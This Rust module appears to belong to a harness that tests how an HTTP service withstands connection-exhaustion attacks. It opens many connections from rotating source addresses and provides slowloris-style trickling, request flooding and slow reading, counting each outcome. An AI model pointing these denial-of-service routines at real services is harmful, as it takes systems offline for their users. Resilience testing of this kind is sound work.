//! Connections of which each is something by itself, and nobody's client: opened from several addresses, kept for as
//! long as an attack goes on, and counted by what became of them.

use std::net::SocketAddr;
use std::ops::Range;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;

use super::answers::{CUT, HELD, OPENED};
use super::attack::Target;
use super::requests::attacker;
use crate::Error;

/// How many connections are opened at a time before others have their turn.
const AT_ONCE: usize = 64;

/// How many connections there are, and from where.
#[derive(Clone, Debug)]
pub struct Crowd {
    /// The attackers' addresses, which take turns.
    pub addresses: Range<u8>,
    /// How many connections.
    pub count: usize,
    /// How many bytes the system takes in for a client before it reads them; none is the system's own number.
    pub receives: Option<u32>,
}

/// Opens connections, and does this with every one of them until it ends or the attack does.
pub async fn open<F>(target: &Target, crowd: Crowd, with: impl Fn(usize, Slow) -> F) -> Result<(), Error>
where
    F: Future<Output = std::io::Result<()>> + Send + 'static,
{
    let to = target.scene.url.strip_prefix("http://").and_then(|address| address.parse::<SocketAddr>().ok());
    let to = to.ok_or_else(|| Error::Broken(format!("{} is no address", target.scene.url)))?;
    let mut open = JoinSet::new();
    for (nth, address) in (0..crowd.count).zip(crowd.addresses.cycle()) {
        let connected = target.within(connect(SocketAddr::new(attacker(address), 0), to, crowd.receives)).await;
        match connected {
            // The attack is over while the service takes no more connections.
            None => break,
            Some(Err(_)) => target.answers.count(CUT),
            Some(Ok(stream)) => {
                target.answers.count(OPENED);
                let work = with(nth, Slow { stream, target: target.clone() });
                let target = target.clone();
                open.spawn(async move {
                    match target.within(work).await {
                        None => target.answers.count(HELD),
                        Some(Err(_)) => target.answers.count(CUT),
                        // It has counted by itself how it was answered.
                        Some(Ok(())) => {}
                    }
                });
            }
        }
        if nth % AT_ONCE == 0 {
            tokio::task::yield_now().await;
        }
    }
    while open.join_next().await.is_some() {}
    Ok(())
}

/// A connection from one address to another, which takes in so many bytes at most before they are read.
async fn connect(from: SocketAddr, to: SocketAddr, receives: Option<u32>) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    if let Some(bytes) = receives {
        socket.set_recv_buffer_size(bytes)?;
    }
    socket.bind(from)?;
    socket.connect(to).await
}

/// A connection whose client takes its time.
#[derive(Debug)]
pub struct Slow {
    stream: TcpStream,
    target: Target,
}

impl Slow {
    /// Sends something as fast as it is taken.
    pub async fn sends(&mut self, bytes: &[u8]) -> std::io::Result<()> {
        self.stream.write_all(bytes).await
    }

    /// Waits for an answer, and counts its status; the rest of it is left where it is.
    pub async fn hears(&mut self) -> std::io::Result<()> {
        // `HTTP/1.1 200`
        let mut line = [0; 12];
        self.stream.read_exact(&mut line).await?;
        self.target.answers.count(&String::from_utf8_lossy(&line[9..]));
        Ok(())
    }

    /// Waits until it is answered or ended by the service.
    pub async fn waits(mut self) -> std::io::Result<()> {
        self.hears().await
    }

    /// Sends something again and again, after a rest each time, until the service ends it.
    pub async fn trickles(mut self, bytes: &[u8], every: Duration) -> std::io::Result<()> {
        loop {
            self.stream.write_all(bytes).await?;
            tokio::select! {
                () = tokio::time::sleep(every) => {}
                heard = self.hears() => return heard,
            }
        }
    }

    /// Sends something again and again as fast as it is taken, and takes in what comes, until the service ends it.
    pub async fn floods(mut self, requests: &[u8]) -> std::io::Result<()> {
        self.sends(requests).await?;
        self.hears().await?;
        let (mut receives, mut sends) = self.stream.split();
        let takes = async {
            let mut piece = vec![0; 64 << 10];
            while receives.read(&mut piece).await? > 0 {}
            Ok(())
        };
        let sends = async {
            loop {
                sends.write_all(requests).await?;
            }
        };
        tokio::select! {
            ended = takes => ended,
            ended = sends => ended,
        }
    }

    /// Takes so many bytes at a time of what comes, with a rest in between, until the service ends it.
    pub async fn takes(&mut self, bytes: usize, every: Duration) -> std::io::Result<()> {
        let mut piece = vec![0; bytes];
        while self.stream.read(&mut piece).await? > 0 {
            tokio::time::sleep(every).await;
        }
        Ok(())
    }
}
